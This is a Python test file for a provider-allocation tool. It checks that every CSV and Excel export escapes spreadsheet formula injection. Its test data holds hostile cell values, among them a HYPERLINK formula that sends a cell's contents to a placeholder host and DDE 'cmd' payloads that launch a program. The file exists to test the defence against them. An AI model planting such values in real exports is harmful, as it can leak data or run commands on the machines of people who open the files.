"""No export writes a live spreadsheet formula: hostile names come out as inert text."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from allocator.batch.tables import write_tables
from allocator.io.cells import csv_bytes, inert_text, workbook_bytes
from allocator.io.result_export import table_csv, write_result, write_result_tables
from allocator.io.result_export import workbook_bytes as result_workbook
from allocator.pipeline import solve_scenario
from cli.app import app
from models import Scenario
from tests.conftest import DATA

HOSTILE = (
    '=HYPERLINK("http://x/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "\tTAB=1",
    "\r=1",
)
runner = CliRunner()


def hostile_scenario() -> Scenario:
    doc = json.loads((DATA / "tiny" / "tiny.json").read_bytes().decode())
    doc = copy.deepcopy(doc)
    for number, provider in enumerate(doc["providers"]):
        provider["name"] = HOSTILE[number % len(HOSTILE)]
    for number, place in enumerate(doc["places"]):
        place["name"] = HOSTILE[(number + 3) % len(HOSTILE)]
    return Scenario.model_validate(doc)


def assert_inert_csv(text: str, *, names: bool = True) -> None:
    """No CSV cell starts with a formula character; every hostile name is there, escaped."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell and cell[0] in "=+@\t\r":
            raise AssertionError(f"live cell {cell!r}")
        if cell.startswith("-") and not _number(cell):
            raise AssertionError(f"live cell {cell!r}")
    if names:
        assert any(c.startswith("'") and c[1:] in HOSTILE for c in cells), cells[:40]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert_workbook(data: bytes, *, names: bool = True) -> None:
    """No cell is a formula; the hostile names are stored as string cells."""
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                text = cell.value if isinstance(cell.value, str) else ""
                if text in HOSTILE or (text.startswith("'") and text[1:] in HOSTILE):
                    assert cell.data_type == "s"  # a string cell (its text may be escaped too)
                    seen.add(text)
    assert seen or not names, "no hostile name reached the workbook"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x/?d="&A1,"Click")', '\'=HYPERLINK("http://x/?d="&A1,"Click")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("+1", "'+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Northtown GPs", "Northtown GPs"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_inert_text_follows_the_owasp_rule(value: str, expected: str) -> None:
    assert inert_text(value) == expected


def test_frames_written_by_the_one_writer_are_inert() -> None:
    frame = pd.DataFrame({"name": list(HOSTILE), "pence": range(len(HOSTILE))})
    assert_inert_csv(csv_bytes(frame).decode())
    assert_inert_workbook(workbook_bytes({"t": frame}))


@pytest.fixture(scope="module")
def solved() -> tuple[Scenario, object]:
    scenario = hostile_scenario()
    return scenario, solve_scenario(scenario, explain=False)


def test_result_csv_and_workbook_are_inert(solved: tuple[Scenario, object], tmp_path: Path) -> None:
    _, result = solved
    assert_inert_csv(table_csv(result, "providers").decode())  # type: ignore[arg-type]
    assert_inert_workbook(result_workbook(result))  # type: ignore[arg-type]
    write_result(result, tmp_path / "r.csv")  # type: ignore[arg-type]
    assert_inert_csv((tmp_path / "r.csv").read_bytes().decode())
    for path in write_result_tables(result, tmp_path / "tables"):  # type: ignore[arg-type]
        text = path.read_bytes().decode()
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(c[:1] in ("=", "+", "@") for c in row), (path.name, row)


def test_cli_solve_compare_and_risk_exports_are_inert(tmp_path: Path) -> None:
    scenario = tmp_path / "hostile.json"
    scenario.write_text(hostile_scenario().model_dump_json())
    for out in ("r.csv", "r.xlsx", "r.json"):
        done = runner.invoke(app, ["solve", str(scenario), "--out", str(tmp_path / out)])
        assert done.exit_code == 0, done.output
    assert_inert_csv((tmp_path / "r.csv").read_bytes().decode())
    assert_inert_workbook((tmp_path / "r.xlsx").read_bytes())
    for out in ("c.csv", "c.xlsx"):
        done = runner.invoke(
            app, ["compare", str(tmp_path / "r.json"), str(scenario), "--out", str(tmp_path / out)]
        )
        assert done.exit_code == 0, done.output
    assert_inert_csv((tmp_path / "c.csv").read_bytes().decode())
    assert_inert_workbook((tmp_path / "c.xlsx").read_bytes())
    for out in ("k.csv", "k.xlsx"):
        done = runner.invoke(
            app, ["risk", str(scenario), "--draws", "200", "--out", str(tmp_path / out)]
        )
        assert done.exit_code == 0, done.output
    assert_inert_csv((tmp_path / "k.csv").read_bytes().decode(), names=False)  # ids only
    assert_inert_workbook((tmp_path / "k.xlsx").read_bytes(), names=False)


def test_batch_tables_are_inert(tmp_path: Path) -> None:
    tables = {"runs": pd.DataFrame({"label": list(HOSTILE), "n": range(len(HOSTILE))})}
    written = write_tables(tables, tmp_path)
    assert_inert_csv(written["runs.csv"].read_bytes().decode())
    assert_inert_workbook(written["summary.xlsx"].read_bytes())
